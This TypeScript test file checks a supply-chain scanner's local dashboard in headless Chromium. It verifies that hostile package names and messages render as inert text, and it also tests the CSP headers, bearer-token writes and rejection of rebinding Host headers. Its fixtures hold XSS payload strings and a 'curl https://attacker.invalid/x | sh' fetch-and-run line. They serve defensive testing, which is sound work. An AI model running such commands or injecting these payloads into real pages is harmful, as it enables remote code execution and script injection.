/**
 * `watch serve` against a real SQLite store filled through the store API, read by Debian's
 * Chromium driven by playwright-core. The store holds a target and events whose names and messages
 * are markup and control characters, as an analysed package could make them; the expected values
 * below come from what this file put into the store, never from the dashboard's own code.
 */
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { chromium, type Browser, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Report } from '../../src/model/report.js'
import { serveDashboard, type RunningDashboard } from '../../src/watch/serve/server.js'
import { WatchStore } from '../../src/watch/store/store.js'
import { jobKey, type NewEvent } from '../../src/watch/model.js'
import { main } from '../../src/cli/main.js'

const EXECUTABLE = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium'
const ARTIFACTS = join(process.cwd(), 'test-artifacts')

// what an analysed package controls: its name, and the messages and evidence quoting its content
const HOSTILE_NAME = `<script>globalThis.__pwned=1</script><img src=x onerror="globalThis.__pwned=2">\u001b[31mred\u0007`
const HOSTILE_KEY = `npm:${HOSTILE_NAME}`
const HOSTILE_MESSAGE = `postinstall runs <iframe src="https://attacker.invalid/"></iframe> \u202eexe.txt \u0000end`

let dir: string
let store: WatchStore
let browser: Browser
let readOnly: RunningDashboard
let writable: RunningDashboard
const errors: string[] = []
const requests: string[] = []

const pause = (ms: number) => new Promise((r) => setTimeout(r, ms))

async function finish(target: string, version: string, analysis: 'scan' | 'signals', events: NewEvent[], report?: Report): Promise<void> {
  const key = jobKey(target, version, analysis)
  await store.enqueue({ key, target, version, analysis })
  await store.claim('test', 60_000)
  expect(await store.complete(key, report, events)).toBe(true)
  // events of later jobs get a later creation time, so "newest first" has something to order
  await pause(5)
}

const hostileReport: Report = {
  tool: 'stagelight',
  schemaVersion: 1,
  version: '0.0.0',
  command: 'scan',
  verdict: 'fail',
  subject: { package: HOSTILE_NAME },
  facts: [],
  findings: [{ ruleId: 'install-script-fetch', severity: 'critical', confidence: 'high', message: HOSTILE_MESSAGE, evidence: `curl https://attacker.invalid/x | sh\n</pre><script>globalThis.__pwned=3</script>` }],
  explained: [],
  summary: { findings: { info: 0, low: 0, medium: 0, high: 0, critical: 1 } },
}

async function open(path: string, base = readOnly.url): Promise<Page> {
  const context = await browser.newContext({ viewport: { width: 1200, height: 900 } })
  const page = await context.newPage()
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text())
  })
  page.on('pageerror', (e) => errors.push(e.message))
  page.on('request', (r) => {
    if (!r.url().startsWith(base)) requests.push(r.url())
  })
  const response = await page.goto(new URL(path, base).href)
  expect(response?.status()).toBe(200)
  return page
}

/** No script of the page ran and no element came out of stored text. */
async function expectInert(page: Page): Promise<void> {
  expect(await page.evaluate('globalThis.__pwned')).toBeUndefined()
  expect(await page.locator('script, img, iframe').count()).toBe(0)
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'stagelight-serve-'))
  store = await WatchStore.open(join(dir, 'watch.sqlite'))
  await store.addTarget({ key: HOSTILE_KEY, kind: 'npm', name: HOSTILE_NAME }, 'manual')
  await store.addTarget({ key: 'npm:left-pad', kind: 'npm', name: 'left-pad' }, 'inventory:app')
  await store.addReleases(HOSTILE_KEY, [{ version: '1.0.0' }], true)
  await store.addReleases(HOSTILE_KEY, [{ version: '1.0.1' }, { version: '1.0.2' }], false)
  await store.addReleases('npm:left-pad', [{ version: '1.2.0' }, { version: '1.3.0' }, { version: '1.3.1' }], true)
  // oldest first: a low event, then an older high, then the critical, then a newer high
  await finish('npm:left-pad', '1.3.1', 'signals', [{ severity: 'low', ruleId: 'maintainer-added', message: 'a maintainer was added', evidence: undefined }])
  await finish(HOSTILE_KEY, '1.0.1', 'signals', [{ severity: 'high', ruleId: 'publisher-changed', message: 'older high', evidence: undefined }])
  await finish(HOSTILE_KEY, '1.0.2', 'scan', [{ severity: 'critical', ruleId: 'install-script-fetch', message: HOSTILE_MESSAGE, evidence: 'curl https://attacker.invalid/x | sh' }], hostileReport)
  await finish('npm:left-pad', '1.3.0', 'signals', [{ severity: 'high', ruleId: 'provenance-lost', message: 'newer high', evidence: undefined }])
  // one dead job, for the write the token allows
  await store.enqueue({ key: jobKey('npm:left-pad', '1.2.0', 'scan'), target: 'npm:left-pad', version: '1.2.0', analysis: 'scan' })
  await store.fail(jobKey('npm:left-pad', '1.2.0', 'scan'), 'registry unreachable', undefined)
  await store.putInventory('app', undefined, 'package-lock', 'digest', [{ ecosystem: 'npm', name: 'left-pad', version: '1.3.0', location: 'node_modules/left-pad', dev: false }])

  readOnly = await serveDashboard(store, { port: 0 })
  writable = await serveDashboard(store, { port: 0, token: 'right-token' })
  browser = await chromium.launch({ executablePath: EXECUTABLE, args: ['--no-sandbox', '--disable-gpu'] })
})

afterAll(async () => {
  await browser?.close()
  await readOnly?.close()
  await writable?.close()
  await store?.close()
  rmSync(dir, { recursive: true, force: true })
})

describe('watch serve in Chromium', () => {
  it('lists the targets, a hostile name as visible text', async () => {
    const page = await open('/')
    expect(readOnly.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/)
    const links = page.locator('table a')
    expect(await links.allTextContents()).toEqual(['npm:<script>globalThis.__pwned=1</script><img src=x onerror="globalThis.__pwned=2">\\x1b[31mred\\x07', 'npm:left-pad'].sort())
    await expectInert(page)
    await page.screenshot({ path: join((mkdirSync(ARTIFACTS, { recursive: true }), ARTIFACTS), 'watch-serve-targets.png'), fullPage: true })
    await page.context().close()
  })

  it('orders the feed by severity, then newest first, and filters by severity', async () => {
    const page = await open('/events')
    const rows = page.locator('tr.event')
    expect(await rows.evaluateAll((r) => r.map((e) => e.getAttribute('data-severity')))).toEqual(['critical', 'high', 'high', 'low'])
    const messages = await page.locator('tr.event td:nth-child(5)').allTextContents()
    expect(messages[1]).toContain('newer high')
    expect(messages[2]).toContain('older high')
    expect(messages[0]).toContain('<iframe src="https://attacker.invalid/"></iframe> \\u202eexe.txt \\x00end')
    await expectInert(page)
    await page.screenshot({ path: join(ARTIFACTS, 'watch-serve-events.png'), fullPage: true })
    await page.context().close()

    const high = await open('/events?severity=high')
    expect(await high.locator('tr.event').evaluateAll((r) => r.map((e) => e.getAttribute('data-severity')))).toEqual(['critical', 'high', 'high'])
    // the form sends the same query
    await high.selectOption('select[name=severity]', 'critical')
    await Promise.all([high.waitForURL(/severity=critical/), high.click('form button')])
    expect(await high.locator('tr.event').count()).toBe(1)
    await high.context().close()
  })

  it('shows a target its releases, its events and a timeline coloured by the worst event', async () => {
    const page = await open(`/target?key=${encodeURIComponent(HOSTILE_KEY)}`)
    expect(await page.locator('h1').textContent()).toContain('<script>')
    expect((await page.locator('ol.releases li').allTextContents()).map((t) => t.split(' ')[0])).toEqual(['1.0.0', '1.0.1', '1.0.2'])
    expect(await page.locator('svg.timeline circle').evaluateAll((c) => c.map((e) => e.getAttribute('class')))).toEqual(['fill-none', 'fill-high', 'fill-critical'])
    expect(await page.locator('tr.event').count()).toBe(2)
    await expectInert(page)
    await page.screenshot({ path: join(ARTIFACTS, 'watch-serve-target.png'), fullPage: true })
    // from the event to its stored report
    await Promise.all([page.waitForURL(/\/report\?job=/), page.locator('tr.event[data-severity=critical] a', { hasText: 'report' }).click()])
    expect(await page.locator('li.finding pre').textContent()).toBe('curl https://attacker.invalid/x | sh\n</pre><script>globalThis.__pwned=3</script>')
    expect(await page.locator('dd code').textContent()).toContain('onerror=')
    await expectInert(page)
    await page.context().close()
  })

  it('answers respond with the rollback and the fix', async () => {
    const page = await open('/respond?q=left-pad%401.3.0')
    const cells = await page.locator('tr.affected td').allTextContents()
    expect(cells).toEqual(['app', 'left-pad@1.3.0', 'left-pad', '1.2.0', '1.3.1'])
    await page.context().close()
    const bad = await browser.newPage()
    const response = await bad.goto(new URL('/respond?q=%3Cb%3Enot%20a%20query', readOnly.url).href)
    expect(response?.status()).toBe(400)
    expect(await bad.locator('[role=alert]').textContent()).toContain('<b>not a query')
    expect(await bad.locator('b').count()).toBe(0)
    await bad.close()
  })

  it('loaded nothing from elsewhere and logged no error', () => {
    expect(requests).toEqual([])
    expect(errors).toEqual([])
  })
})

describe('watch serve over HTTP', () => {
  it('sends a strict Content-Security-Policy', async () => {
    const res = await fetch(readOnly.url)
    expect(res.headers.get('content-security-policy')).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'$/)
    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
  })

  it('refuses every write without a token, and a bad severity', async () => {
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH']) {
      const res = await fetch(new URL('/retry-dead', readOnly.url), { method, headers: { authorization: 'Bearer right-token' } })
      expect(res.status).toBe(405)
      expect(res.headers.get('allow')).toBe('GET, HEAD')
    }
    expect((await fetch(new URL('/events?severity=urgent', readOnly.url))).status).toBe(400)
    expect((await store.jobCounts()).dead).toBe(1)
  })

  it('with a token, writes only with the right bearer token', async () => {
    const url = new URL('/retry-dead', writable.url)
    expect((await fetch(url, { method: 'POST' })).status).toBe(401)
    expect((await fetch(url, { method: 'POST', headers: { authorization: 'Bearer wrong-token' } })).status).toBe(403)
    expect((await fetch(url, { method: 'POST', headers: { authorization: 'Basic right-token' } })).status).toBe(401)
    expect((await store.jobCounts()).dead).toBe(1)
    const ok = await fetch(url, { method: 'POST', headers: { authorization: 'Bearer right-token' } })
    expect(ok.status).toBe(200)
    expect(await ok.json()).toEqual({ requeued: 1 })
    expect((await store.jobCounts()).dead).toBe(0)
  })

  it('on loopback, answers only requests addressed to a loopback name', async () => {
    const { request } = await import('node:http')
    const status = await new Promise<number>((resolve, reject) => {
      const req = request(readOnly.url, { headers: { host: 'rebound.attacker.invalid' } }, (res) => {
        res.resume()
        resolve(res.statusCode ?? 0)
      })
      req.on('error', reject)
      req.end()
    })
    expect(status).toBe(421)
    expect((await fetch(readOnly.url.replace('127.0.0.1', 'localhost'))).status).toBe(200)
  })

  it('says when the feed was cut to the newest events', async () => {
    const small = await serveDashboard(store, { port: 0, limit: 2 })
    try {
      const body = await (await fetch(new URL('/events', small.url))).text()
      expect(body.match(/<tr class="event"/g)).toHaveLength(2)
      expect(body).toContain('Only the newest 2 events')
      // the two newest of the four: the newer high, then the critical
      expect(body.match(/data-severity="(\w+)"/g)).toEqual(['data-severity="critical"', 'data-severity="high"'])
      expect(body).toContain('newer high')
      expect(await (await fetch(new URL('/events', readOnly.url))).text()).not.toContain('Only the newest')
    } finally {
      await small.close()
    }
  })

  it('a port in use is a one-line error, exit 2', async () => {
    const stderr = new PassThrough()
    let said = ''
    stderr.on('data', (c: Buffer) => (said += c.toString('utf8')))
    const port = new URL(readOnly.url).port
    const code = await main(['watch', 'serve', '--db', join(dir, 'watch.sqlite'), '--port', port], { stdout: new PassThrough(), stderr, env: { NO_COLOR: '1', HOME: dir }, cwd: dir })
    expect(code).toBe(2)
    expect(said.split('\n')[0]).toBe(`stagelight: error: cannot listen on 127.0.0.1:${port}: listen EADDRINUSE: address already in use 127.0.0.1:${port}`)
  })

  it('`watch serve --port 0` prints the URL it chose and serves the store', async () => {
    const stderr = new PassThrough()
    let said = ''
    stderr.on('data', (c: Buffer) => (said += c.toString('utf8')))
    const run = main(['watch', 'serve', '--db', join(dir, 'watch.sqlite'), '--port', '0'], { stdout: new PassThrough(), stderr, env: { NO_COLOR: '1', HOME: dir }, cwd: dir })
    let url: string | undefined
    for (let i = 0; i < 400 && !url; i++) {
      url = /http:\/\/127\.0\.0\.1:\d+\//.exec(said)?.[0]
      if (!url) await pause(25)
    }
    expect(url).toBeDefined()
    expect(url).not.toBe('http://127.0.0.1:0/')
    expect(said).toContain('read-only')
    expect(await (await fetch(url!)).text()).toContain('npm:left-pad')
    // the command stops on SIGTERM; its listener is called without signalling the test process
    process.emit('SIGTERM')
    expect(await run).toBe(0)
  })
})
